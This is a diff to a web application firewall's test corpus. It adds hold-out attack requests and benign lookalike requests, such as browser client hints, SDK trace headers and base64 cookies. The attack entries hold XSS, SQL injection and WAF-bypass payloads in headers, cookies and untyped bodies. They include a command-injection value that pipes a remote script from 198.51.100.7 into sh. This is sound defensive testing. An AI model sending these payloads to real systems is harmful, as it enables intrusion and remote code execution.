@@ -541,6 +541,31 @@ export const ENCODED_BENIGN: CorpusEntry[] = [
   { category: 'write', name: 'base64: an HTML email template in a JSON body', why: 'Templates with script tags travel encoded in API bodies', method: 'POST', path: '/api/templates', headers: bearer, json: { name: 'welcome', html_base64: base64('<html><body onload="track()"><script src="/t.js"></script>Welcome!</body></html>') } },
 ];
 
+/**
+ * Hold-out 4 (2026-12-03, from the zones of a public WAF bypass suite, nemesida-waf/waf-bypass, run by hand): every
+ * request header a client invents, not only the X- ones (RFC 6648 retired the prefix), base64 in a cookie, and a form
+ * body sent without a Content-Type, which no body processor parses; beside them the headers and cookies that browsers,
+ * SDKs and tracing send, and an in-app browser whose user agent names its Android package.
+ */
+const HOLDOUT_4_ATTACKS: CorpusEntry[] = [
+  { category: 'xss', name: 'holdout-4: event handler in a custom header without the X- prefix', why: 'A tenant header an admin view shows as HTML', path: '/api/agents', headers: { ...bearer, 'Tenant-Context': '<img src=x onerror=alert(document.domain)>' } },
+  { category: 'sqli', name: 'holdout-4: UNION in a custom header without the X- prefix', why: 'An account header that a handler puts into a query', path: '/api/runs', headers: { ...bearer, 'Account-Id': "1' UNION SELECT password FROM users--" } },
+  { category: 'cmdi', name: 'holdout-4: download and run in a custom header without the X- prefix', why: 'A callback header that a tool passes to a shell', path: '/api/tools/ping', headers: { ...bearer, 'Callback-Host': 'example.com; curl http://198.51.100.7/x.sh | sh' } },
+  { category: 'xss', name: 'holdout-4: base64 markup in a cookie', why: 'A view cookie that the page decodes and renders', path: '/dashboard/runs', headers: { Cookie: `theme=dark; view=${base64('<svg onload=alert(document.cookie)>')}` } },
+  { category: 'sqli', name: 'holdout-4: base64 time-based blind in a custom header without the X- prefix', why: 'A context header decoded into a query', path: '/api/runs', headers: { ...bearer, 'Request-Context': base64("1' AND SLEEP(5)-- -") } },
+  { category: 'xss', name: 'holdout-4: a form body without a Content-Type', why: 'No body processor parses it, so no rule reads its arguments; an application may still read it as a form', method: 'POST', path: '/api/feedback', headers: bearer, body: 'comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&rating=5' },
+  { category: 'sqli', name: 'holdout-4: a login body without a Content-Type', why: 'The same bypass with a tautology', method: 'POST', path: '/api/auth/login', body: "username=admin'%20OR%20'1'%3D'1&password=x" },
+];
+
+const HOLDOUT_4_BENIGN: CorpusEntry[] = [
+  { category: 'read', name: 'holdout-4: Facebook in-app browser on Android', why: 'Its user agent names the app package com.facebook.katana', path: '/dashboard/agents', headers: { 'User-Agent': 'Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/471.0.0.35.80;FBPN/com.facebook.katana;FBLC/de_DE;]' } },
+  { category: 'read', name: 'holdout-4: SDK, idempotency and trace headers', why: 'Version, organisation, idempotency and W3C trace headers carry no X- prefix', method: 'POST', path: '/api/runs', headers: { ...bearer, 'Anthropic-Version': '2023-06-01', 'OpenAI-Organization': 'org-9f3aB21c', 'Idempotency-Key': '5f0c1e8a-3b7d-4c1e-9a2f-0d6b8e4c7a11', traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01', tracestate: 'congo=t61rcWkgMzE,rojo=00f067aa0ba902b7', baggage: 'userId=alice,serverNode=DF%2028,isProduction=false' }, json: { agent: 7, prompt: 'Summarise the last run.' } },
+  { category: 'read', name: 'holdout-4: a browser\'s client hints and fetch metadata', why: 'Chrome sends quoted, semicolon-separated brand lists', path: '/dashboard/runs?tab=failed', headers: { 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36', 'Sec-CH-UA': '"Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126"', 'Sec-CH-UA-Mobile': '?0', 'Sec-CH-UA-Platform': '"Windows"', 'Sec-Fetch-Mode': 'navigate', 'Sec-Fetch-Site': 'same-origin', Priority: 'u=0, i' } },
+  { category: 'read', name: 'holdout-4: a custom header with a name and apostrophes', why: 'Device names are prose', path: '/api/me', headers: { ...bearer, 'Device-Name': "Siobhán's MacBook Pro (work)" } },
+  { category: 'read', name: 'holdout-4: base64 cookies', why: 'Preferences as base64 JSON and a CSRF token of random bytes', path: '/dashboard/agents', headers: { Cookie: `prefs=${base64(JSON.stringify({ theme: 'dark', lang: 'de', select: 'recent runs' }))}; csrftoken=${base64(Buffer.from('7c1f09ae44b2d38e5a6b0f1e2d3c4b5a69788796', 'hex'))}` } },
+  { category: 'write', name: 'holdout-4: a POST without a body', why: 'Actions such as cancel send no body and no Content-Type', raw: 'POST /api/runs/5f0c1e8a/cancel HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer rt_9f8e7d6c\r\nContent-Length: 0\r\n\r\n' },
+];
+
 export const ATTACKS: CorpusEntry[] = [
   // SQL injection
   { category: 'sqli', name: 'guide verification: tautology in a query parameter', why: 'The guide\'s own check: curl "/api/?id=1\' OR \'1\'=\'1" must be 403', path: "/api/?id=1'%20OR%20'1'='1" },
@@ -610,6 +635,7 @@ export const ATTACKS: CorpusEntry[] = [
   ...OTHER_ATTACKS,
   ...HOLDOUT_3_ATTACKS,
   ...ENCODED_ATTACKS,
+  ...HOLDOUT_4_ATTACKS,
 ];
 
 export const BENIGN: CorpusEntry[] = [
@@ -662,4 +688,5 @@ export const BENIGN: CorpusEntry[] = [
   ...OTHER_BENIGN,
   ...HOLDOUT_3_BENIGN,
   ...ENCODED_BENIGN,
+  ...HOLDOUT_4_BENIGN,
 ];
